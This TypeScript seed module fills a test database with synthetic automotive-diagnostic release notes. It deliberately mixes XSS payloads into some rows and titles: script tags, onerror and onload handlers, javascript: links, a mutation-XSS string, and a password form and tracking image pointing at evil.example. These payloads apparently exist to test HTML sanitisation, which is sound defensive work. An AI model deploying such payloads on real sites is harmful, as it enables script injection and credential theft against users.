import { Random } from '../data/random.ts';
import type { Store, Value } from '../data/store.ts';
import type { SeedOptions } from '../domain.ts';

export const messageCount = 3000;
const day = 86400;
const columns = ['id', 'title', 'publish_date', 'features', 'optimization', 'bug_fix', 'products', 'search'];

const makes =
  'BMW,Mercedes-Benz,Volkswagen,Renault,Toyota,Ford,Citroën,Škoda,Hyundai,BYD 比亚迪,Лада,Fiat,Volvo'.split(
    ',',
  );
const works =
  'V25.10,software upgrade,firmware,coding update,ADAS calibration,immobiliser functions,DoIP support'.split(
    ',',
  );
const things = [
  'Adds <strong>guided functions</strong> for gearbox adaptation',
  'Supports models up to <em>2026</em>, incl. hybrid &amp; electric',
  'Reads more than 1,200 trouble codes in <b>en, de, fr, 日本語</b>',
  'New battery test report, see <a href="https://docs.vendor.example/report">the manual</a>',
  'Shortens the scan of all systems by 40&nbsp;%',
  'Fixes wrong units (°F instead of °C) in live data',
  'Fixes a crash when the VIN holds an “O” for a “0”',
  'Clears the service light on vehicles before 2004',
];
const hostile = [
  '<p>Important<script>window.__hacked = "script"</script></p>',
  '<img src="x" onerror="window.__hacked = \'onerror\'">',
  '<a href="javascript:window.__hacked=\'link\'">download</a>',
  '<svg onload="window.__hacked=\'svg\'"><circle r="9"/></svg>',
  '<iframe srcdoc="<script>parent.__hacked=1</script>"></iframe><form action="https://evil.example"><input name="password"></form>',
  '<p style="position:fixed;inset:0;background:url(https://evil.example/track.png)">cover</p>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.__hacked=1&gt;">',
];

/** Release notes of four years, newest with the highest id. Every 100th is hostile. */
export function seedMessages(store: Store, { seed }: SeedOptions, now: number): void {
  const random = new Random(`${seed}/messages`);
  const rows = Array.from({ length: messageCount }, (_, index) => messageRow(index + 1, random, now));
  store.insertRows('messages', columns, rows);
}

function messageRow(id: number, random: Random, now: number): Value[] {
  const make = random.pick(makes);
  const title = titleOf(id, `${make} ${random.pick(works)}`, random);
  const published = now - 3600 - Math.floor(((messageCount - id) * 1460 * day) / messageCount);
  const harm = id % 100 === 0 ? (hostile[(id / 100) % hostile.length] ?? '') : '';
  const [first, second, third] = [listOf(random) + harm, listOf(random), listOf(random)];
  const products = random.chance(0.3) ? null : 'X-431 PRO, X-431 PAD, CRP 909';
  return [
    ...[id, title, published, random.chance(0.1) && !harm ? null : first],
    ...[random.chance(0.3) ? null : second, random.chance(0.3) ? null : third, products, title.toLowerCase()],
  ];
}

function titleOf(id: number, title: string, random: Random): string {
  if (id % 250 === 0) return `<b>${title}</b> & "quotes" <img src=x onerror=alert(1)>`;
  if (id % 333 === 0)
    return `${title}: ${'a very long title that must not break the layout '.repeat(4)}`.trim();
  return `${title} ${random.between(10, 99)}.${random.between(0, 9)}`;
}

function listOf(random: Random): string {
  const items = Array.from({ length: random.between(1, 4) }, () => `<li>${random.pick(things)}</li>`);
  return random.chance(0.2) ? `<p>${random.pick(things)}</p>` : `<ul>${items.join('')}</ul>`;
}
